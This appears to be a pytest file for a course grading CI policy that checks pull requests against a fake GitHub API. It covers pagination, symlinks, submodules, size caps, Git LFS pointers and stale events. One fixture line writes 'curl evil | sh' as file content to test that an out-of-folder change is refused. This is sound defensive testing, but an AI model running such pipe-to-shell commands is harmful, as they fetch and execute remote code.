"""The policy's reads through PyGithub against the fake API: every page, the real tree, the live head."""

from __future__ import annotations

from datetime import datetime, timezone

from grader.ci.api import ClientSettings, folder_tree, make_client
from grader.ci.event import PullRequestEvent
from grader.ci.flows import PolicyInputs, decide_policy
from grader.config.roster import Roster
from tests.fakegithub import FakeGitHub, lfs_file, sized, submodule, symlink

REPO = "course/grading"
FOLDER = "submissions/team-alpha/hw2-quantization-pruning"
ROSTER = Roster.model_validate({"teams": {"team-alpha": {"members": [{"github": "octocat"}]}}})
INPUTS = PolicyInputs(ROSTER, ["hw2-quantization-pruning"])


def setup(fake: FakeGitHub, files: dict, per_page: int = 100):
    fake.add_token("read", "github-actions[bot]", write=False)
    repo = fake.add_repo(REPO, {"README.md": b"course\n"})
    pull = fake.open_pull(repo, "octocat", files)
    gh = make_client(
        ClientSettings(
            api_url=fake.url, token="read", request_spacing_s=0, write_spacing_s=0, per_page=per_page, backoff_s=0.01
        )
    )
    return repo, pull, gh


def event(pull, head_sha: str | None = None) -> PullRequestEvent:
    return PullRequestEvent(
        name="pull_request_target",
        action="synchronize",
        repository=REPO,
        pr_number=pull.number,
        head_sha=head_sha or pull.head_sha,
        head_repository=pull.head_repo,
        author=pull.author,
        author_association=pull.association,
        event_time=datetime(2026, 11, 30, tzinfo=timezone.utc),
    )


def test_a_change_on_the_last_page_of_the_file_list_is_seen(fake_github: FakeGitHub) -> None:
    files = {f"{FOLDER}/f{i:02}.onnx": b"x" for i in range(9)}
    files["zzz/escape.sh"] = b"curl evil | sh\n"  # sorted last: on page 4 of 3-file pages
    _, pull, gh = setup(fake_github, files, per_page=3)
    decision = decide_policy(gh, event(pull), INPUTS)
    assert decision.verdict == "refuse" and decision.refusals[0].paths == ["zzz/escape.sh"]
    assert len(fake_github.requests("GET", r".*/pulls/1/files")) == 4


def test_the_folder_tree_reports_kinds_and_sizes_at_the_head_commit(fake_github: FakeGitHub) -> None:
    repo, pull, gh = setup(
        fake_github,
        {
            f"{FOLDER}/submission.yaml": b"schema: 1\n",
            f"{FOLDER}/models/big.onnx": sized(150 * 2**20),
            f"{FOLDER}/link": symlink("../../team-beta"),
            f"{FOLDER}/vendor": submodule(),
        },
    )
    tree = folder_tree(gh.get_repo(REPO), pull.head_sha, FOLDER)
    kinds = {e.path: (e.kind, e.size) for e in tree.entries}
    assert kinds["submission.yaml"] == ("file", 10) and kinds["models/big.onnx"] == ("file", 150 * 2**20)
    assert kinds["link"][0] == "symlink" and kinds["vendor"][0] == "submodule" and kinds["models"][0] == "folder"
    assert folder_tree(gh.get_repo(REPO), pull.head_sha, "submissions/team-alpha/hw9") is None
    decision = decide_policy(gh, event(pull), INPUTS)
    assert [r.rule for r in decision.refusals] == ["symlink", "submodule", "file-too-big"]


def test_a_good_pr_is_graded_and_an_outdated_event_is_stale(fake_github: FakeGitHub) -> None:
    repo, pull, gh = setup(fake_github, {f"{FOLDER}/submission.yaml": b"schema: 1\n"})
    decision = decide_policy(gh, event(pull), INPUTS)
    assert (decision.verdict, decision.folder, decision.environment) == ("grade", FOLDER, "grading")
    old = pull.head_sha
    fake_github.push(repo, pull, {f"{FOLDER}/notes.md": b"v2\n"})
    assert decide_policy(gh, event(pull, head_sha=old), INPUTS).verdict == "stale"


def test_a_git_lfs_file_counts_at_its_real_size_not_its_pointers(fake_github: FakeGitHub) -> None:
    """git's tree lists an LFS file at its ~130-byte pointer: a 500 MB model must still meet the caps."""
    files = {
        f"{FOLDER}/submission.yaml": b"schema: 1\n",
        f"{FOLDER}/huge.onnx": lfs_file(500 * 2**20),
        f"{FOLDER}/small.onnx": lfs_file(2 * 2**20),
        f"{FOLDER}/notes.md": b"LFS pointers start with version https://git-lfs.github.com/spec/v1\n",
    }
    repo, pull, gh = setup(fake_github, files)
    tree = folder_tree(gh.get_repo(REPO), pull.head_sha, FOLDER)
    sizes = {e.path: (e.size, e.lfs) for e in tree.entries if e.kind == "file"}
    assert sizes["huge.onnx"] == (500 * 2**20, True) and sizes["small.onnx"] == (2 * 2**20, True)
    assert sizes["notes.md"][1] is False and sizes["notes.md"][0] < 100  # not a pointer: its own size
    decision = decide_policy(gh, event(pull), INPUTS)
    assert decision.verdict == "refuse"
    [big] = [r for r in decision.refusals if r.rule == "file-too-big"]
    assert big.paths == [f"{FOLDER}/huge.onnx"]
    assert len(fake_github.requests("GET", r".*/git/blobs/[0-9a-f]{40}")) == 2 * 4  # each small blob, per call


def test_an_older_or_odd_lfs_pointer_cannot_slip_under_the_caps(fake_github: FakeGitHub) -> None:
    """git-lfs still smudges its predecessors' pointer versions (hawser, git-media) and sizes with
    leading zeros; a pointer-like file that does not parse is refused, not counted as tiny."""
    from tests.fakegithub import Entry

    oid = "a" * 64
    files = {
        f"{FOLDER}/submission.yaml": b"schema: 1\n",
        f"{FOLDER}/old.onnx": Entry(
            f"version https://hawser.github.com/spec/v1\noid sha256:{oid}\nsize 0{600 * 2**20}\n".encode(), "100644"
        ),
        f"{FOLDER}/odd.onnx": Entry(b"version https://git-lfs.github.com/spec/v1\noid md5:abc\nsize 12\n", "100644"),
    }
    _, pull, gh = setup(fake_github, files)
    decision = decide_policy(gh, event(pull), INPUTS)
    rules = {r.rule: r.paths for r in decision.refusals}
    assert rules["file-too-big"] == [f"{FOLDER}/old.onnx"]
    assert rules["lfs-pointer"] == [f"{FOLDER}/odd.onnx"]
